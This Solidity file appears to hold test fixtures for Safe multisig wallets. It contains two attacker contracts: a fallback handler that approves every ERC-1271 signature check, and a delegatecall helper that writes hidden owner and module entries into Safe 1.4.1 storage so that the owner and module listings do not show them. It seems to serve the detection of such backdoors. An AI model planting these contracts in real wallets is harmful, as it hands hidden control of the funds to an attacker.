// SPDX-License-Identifier: MIT
// What an attacker would plant in a Safe (tests/vaults: the fallback handler and hidden-entry scenarios).
pragma solidity ^0.8.0;

// A fallback handler that says "valid" to every ERC-1271 question: the Safe forwards
// isValidSignature(bytes32,bytes) to its handler (Safe 1.4.1 FallbackManager) and returns its answer,
// so whoever picked this handler can "sign" for the Safe.
contract RogueHandler {
    fallback(bytes calldata) external returns (bytes memory) {
        return abi.encode(bytes4(0x1626ba7e));
    }
}

// Delegatecalled by a Safe (setup's `to`/`data`, or an execTransaction with operation 1): writes
// owners[owner] and modules[module] straight into the Safe's storage (Safe 1.4.1 layout: slot 1
// `modules`, slot 2 `owners`), outside the linked lists that getOwners() and getModulesPaginated walk.
// The Safe honours them: checkNSignatures tests owners[signer] != 0, execTransactionFromModule
// modules[msg.sender] != 0.
contract EntryPlanter {
    function plant(address owner, address module) external {
        if (owner != address(0)) {
            bytes32 slot = keccak256(abi.encode(owner, uint256(2)));
            assembly {
                sstore(slot, 1)
            }
        }
        if (module != address(0)) {
            bytes32 slot = keccak256(abi.encode(module, uint256(1)));
            assembly {
                sstore(slot, 1)
            }
        }
    }
}
